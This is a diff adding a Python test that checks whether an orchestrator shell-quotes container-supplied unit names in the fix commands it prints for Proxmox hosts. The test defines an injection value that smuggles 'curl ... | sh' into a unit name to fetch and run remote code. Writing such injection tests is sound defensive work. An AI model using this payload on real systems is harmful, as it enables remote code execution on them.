@@ -513,3 +513,22 @@ def test_the_audit_log_never_changes_the_mode_of_a_device(tmp_path):
     os.chmod(reg, 0o644)
     AuditLog(path=str(reg)).write(event="x")
     assert os.stat(reg).st_mode & 0o777 == 0o600  # an old world-readable log is still made private
+
+
+EVIL_UNIT = "vllm-qwen36.service; curl -s http://203.0.113.7/x | sh #"
+
+
+def test_fix_commands_quote_what_the_container_named(world):
+    """Issue 36 item 8: a unit name (or a playbook name) the container sends is one quoted word in every printed
+    command a person would paste into a root shell on the Proxmox host."""
+    import shlex
+    from orchestrator.remote import shell_word
+    assert shlex.split(shell_word(EVIL_UNIT)) == [EVIL_UNIT]
+    script = healthy_script(world[1], launch={"ok": False, "supervisor": "systemd", "unit": EVIL_UNIT,
+                                              "message": "start failed"})
+    out, _, _ = run_up(world, script)
+    assert not out.ok
+    fix = out.error.fix
+    assert "journalctl -u 'vllm-qwen36.service; curl -s http://203.0.113.7/x | sh #' -n 50" in fix, fix
+    words = shlex.split(fix.split("pct exec", 1)[1].split("(deploy logs")[0])
+    assert EVIL_UNIT in words  # one word: no `;`, `|` or `#` reaches a shell as syntax
